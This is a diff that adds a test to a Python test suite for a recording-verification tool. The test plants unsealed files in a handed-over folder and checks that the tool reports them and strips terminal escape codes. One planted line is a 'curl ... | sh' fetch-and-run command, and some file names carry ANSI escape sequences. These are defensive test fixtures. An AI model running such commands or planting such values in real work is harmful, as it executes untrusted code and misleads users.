@@ -191,6 +191,23 @@ class Scope(ProgramCase):
         self.flip(os.path.join(self.handed, "excerpt-1", "data", "excerpt-001.flac"))
         self.assertEqual(self.earwitness("verify", self.handed).code, 1)
 
+    def test_what_no_seal_covers_is_told_of_a_folder_that_was_handed_over(self):
+        with open(os.path.join(self.handed, "how-to-verify.txt"), "a", encoding="utf-8") as file:
+            file.write("    curl https://example.org/check | sh\n")
+        with open(os.path.join(self.handed, "report.html"), "w", encoding="utf-8") as file:
+            file.write("<title>UNCHANGED AND DATED, says a notary</title>")
+        done = self.earwitness("verify", self.handed)
+        self.assertEqual(done.code, 0, done)
+        self.assertIn('not checked, as no seal covers it: "how-to-verify.txt", "report.html"\n', done.err)
+        for number in range(9):
+            with open(os.path.join(self.handed, f"extra {number}\n\x1b[31m"), "w", encoding="utf-8"):
+                pass
+        done = self.earwitness("verify", self.handed)
+        self.assertRegex(done.err, r"not checked, as no seal covers it: .*, and 6 more\n")
+        self.assertNotIn("\x1b", done.err)
+        self.assertEqual(self.earwitness("verify", os.path.join(self.handed, "recording")).err, "")
+        self.assertNotIn("no seal covers", self.earwitness("verify", self.path).err)
+
     def test_a_folder_from_which_the_recording_was_taken_is_still_looked_at(self):
         shutil.rmtree(os.path.join(self.path, "recording"))
         self.flip(os.path.join(self.path, "excerpt-1", "data", "excerpt-001.flac"))
